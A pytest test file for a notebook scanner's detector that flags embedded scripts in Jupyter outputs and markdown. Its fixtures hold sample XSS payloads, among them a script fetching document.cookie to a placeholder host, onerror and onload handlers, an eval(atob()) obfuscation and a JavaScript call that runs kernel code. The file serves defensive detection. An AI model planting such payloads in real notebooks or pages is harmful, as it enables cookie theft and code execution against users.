"""NTB002: scripts in what a notebook shows."""

from __future__ import annotations

import pytest

from modelkeep.core import Severity
from modelkeep.scan.notebook_markup import DETECTOR
from notebook_samples import code, html, markdown, notebook
from samples import found_by


@pytest.mark.parametrize(
    "output",
    [
        html("<script>fetch('https://x/?c=' + document.cookie)</script>"),
        html("<script src='http://127.0.0.1:9/x.js'></script>"),
        html("<img src=x onerror=alert(1)>"),
        html("IPython.notebook.kernel.execute('import os')", "application/javascript"),
        html("<script>eval(atob('YQ=='))</script>"),
        html("<svg onload=alert(1)>", "image/svg+xml"),
    ],
)
def test_scripts_that_steal_fail(output: dict[str, object]) -> None:
    (finding,) = found_by(DETECTOR, notebook(code("x", output)), name="d.ipynb")
    assert finding.severity is Severity.HIGH


def test_scripts_in_text_cells_count() -> None:
    raw = notebook(markdown("<img src=x onerror=fetch('https://x')>"))
    assert found_by(DETECTOR, raw)[0].severity is Severity.HIGH


@pytest.mark.parametrize(
    "output",
    [
        html("<div id='p'></div><script>Plotly.newPlot('p', [])</script>"),
        html("<script>" + "x" * 100_000 + "document.cookie</script>"),
        html("<iframe src='https://www.youtube.com/embed/x'></iframe>"),
    ],
)
def test_charts_are_noted(output: dict[str, object]) -> None:
    (finding,) = found_by(DETECTOR, notebook(code("x", output)))
    assert finding.severity is Severity.LOW


def test_tables_are_silent() -> None:
    assert found_by(DETECTOR, notebook(code("x", html("<table><tr></tr></table>")))) == []
